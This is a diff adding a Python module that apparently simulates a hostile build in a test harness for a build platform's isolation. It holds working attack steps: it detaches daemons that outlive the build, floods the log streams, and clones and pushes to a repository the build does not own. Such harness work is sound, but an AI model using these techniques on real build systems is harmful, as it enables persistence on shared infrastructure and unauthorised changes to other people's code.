@@ -1,0 +1,96 @@
+"""What the attacker's build does: the same probes, and daemons that stay behind while the platform takes the image."""
+
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+
+from probes import facts, residence, resources, swapping
+
+CHUNK = 1400
+"""Characters of one log line: the builder cuts longer ones."""
+
+
+def say(line):
+    print(line, flush=True)
+
+
+def tell(word, value):
+    """JSON in pieces, numbered, since lines of two streams may be mixed."""
+    text = json.dumps(value)
+    pieces = [text[start : start + CHUNK] for start in range(0, len(text), CHUNK)]
+    for number, piece in enumerate(pieces):
+        say(f"{word} {number}/{len(pieces)} |{piece}|")
+
+
+def tell_facts(targets):
+    tell("FACTS", facts.collect(targets))
+
+
+def probe(targets, name, arguments):
+    tell("PROBE", {"name": name, **resources.PROBES[name](**arguments)})
+
+
+def sleep(targets, seconds):
+    say("SLEEPING")
+    time.sleep(seconds)
+
+
+def attack(targets, seconds):
+    residence.attack(targets, seconds, say)
+
+
+def leave_daemon(targets, name, arguments):
+    """A process with neither parent, session nor streams of the build: it is there when the build has ended."""
+    if os.fork():
+        return
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    null = os.open(os.devnull, os.O_RDWR)
+    for number in (0, 1, 2):
+        os.dup2(null, number)
+    os.closerange(3, 4096)
+    signal.signal(signal.SIGHUP, signal.SIG_IGN)
+    try:
+        swapping.DAEMONS[name](**arguments)
+    finally:
+        os._exit(0)
+
+
+def talk_on(targets, word, seconds):
+    """A daemon that keeps the build's own streams open and goes on printing."""
+    if os.fork():
+        return
+    os.setsid()
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        try:
+            os.write(1, (word + "\n").encode() * 50)
+        except OSError:
+            break
+        time.sleep(0.001)
+    os._exit(0)
+
+
+def push(targets, url, text):
+    """Clones a repository that is not its own and pushes a commit to it: what git says."""
+    place = os.path.join(os.environ.get("TMPDIR", "/tmp"), "stolen")
+    author = ["-c", "user.name=a", "-c", "user.email=a@example.org"]
+    steps = (
+        ["git", "clone", "-q", url, place],
+        ["git", "-C", place, *author, "commit", "-q", "--allow-empty", "-m", text],
+        ["git", "-C", place, "push", "-q", "origin", "HEAD"],
+    )
+    codes = []
+    for words in steps:
+        done = subprocess.run(words, capture_output=True, text=True, timeout=30, env={**os.environ, "GIT_TERMINAL_PROMPT": "0"})
+        codes.append(done.returncode)
+        say(f"GIT {words[-1]} {done.returncode} {done.stderr.strip()[:200]}")
+    tell("PUSHED", codes)
+
+
+ACTIONS = {"facts": tell_facts, "probe": probe, "sleep": sleep, "attack": attack, "daemon": leave_daemon, "talk_on": talk_on, "push": push,
+           "exit": lambda targets, code: sys.exit(code)}  # fmt: skip
